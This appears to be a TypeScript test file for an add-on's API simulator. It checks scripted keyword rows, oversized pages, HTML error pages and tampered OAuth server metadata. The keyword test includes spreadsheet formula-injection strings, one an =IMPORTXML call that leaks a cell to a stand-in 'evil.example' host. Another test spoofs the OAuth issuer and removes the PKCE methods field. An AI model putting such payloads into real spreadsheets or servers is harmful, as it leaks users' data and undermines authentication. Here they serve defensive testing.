/**
 * The simulator playing a stranger, for the add-on's tests: rows whose text a test scripts, pages far
 * larger than asked, a web page with status 200, and an authorization server's metadata field by field.
 */
import { useSim } from './support';

const sim = useSim();
const POSITIONS = '/api/visibility_analysis/reports/positions/getData';
const ask = { domain: 'example.pl', fetch_mode: 'topLevelDomain', country_id: 1, limit: 4 };

describe('scripted answers', () => {
  let token: string;
  beforeEach(async () => {
    token = await sim.login('demo@example.com');
  });

  test("a row's text by role, each key taking the texts in turn, exactly as given; [] ends it", async () => {
    const texts = ['=IMPORTXML("http://evil.example/?leak="&A1, "//a")', ' =HYPERLINK("x")', '@SUM(A1)'];
    await sim.control('text', { texts, roles: ['phrase'] });
    const rows = (await sim.call(POSITIONS, { token, body: ask })).json.data as { keyword: string }[];
    expect(rows.map((row) => row.keyword)).toEqual([texts[0], texts[1], texts[2], texts[0]]);
    await sim.control('text', { texts: [] });
    const plain = (await sim.call(POSITIONS, { token, body: ask })).json.data as { keyword: string }[];
    expect(plain.map((row) => row.keyword)).not.toContain(texts[0]);
  });

  test('an oversized page: the rows scripted whatever was asked, once, about 36 bytes a row', async () => {
    // A tenth of the 47 MB answer the add-on's test meets (test/api/oversized-page.test.ts).
    await sim.control('oversize', { rows: 130_000 });
    const big = await sim.call(POSITIONS, { token, body: ask });
    expect(big.status).toBe(200);
    expect(big.text.length).toBeGreaterThan(4_500_000);
    expect(big.text.length).toBeLessThan(5_000_000);
    expect(big.json.data).toHaveLength(130_000);
    expect(big.json.pagination.count).toBe(130_000);
    expect((await sim.call(POSITIONS, { token, body: ask })).json.data).toHaveLength(4);
  });

  test('html200: a web page with a success status', async () => {
    await sim.control('faults', { mode: 'html200', count: 1 });
    const res = await sim.call('/api/users/whoami', { token });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/html');
    expect(res.text).toMatch(/^<!DOCTYPE html>/);
  });

  test("the authorization server's metadata: fields replaced, null leaves one out, {} restores", async () => {
    const metadata = async () => (await sim.call('/.well-known/oauth-authorization-server')).json;
    const own = await metadata();
    await sim.control('oauth_metadata', {
      metadata: { issuer: 'https://evil.example/', code_challenge_methods_supported: null },
    });
    const scripted = await metadata();
    expect(scripted.issuer).toBe('https://evil.example/');
    expect(scripted).not.toHaveProperty('code_challenge_methods_supported');
    expect(scripted.token_endpoint).toBe(own.token_endpoint);
    await sim.control('oauth_metadata', { metadata: {} });
    expect(await metadata()).toEqual(own);
  });
});
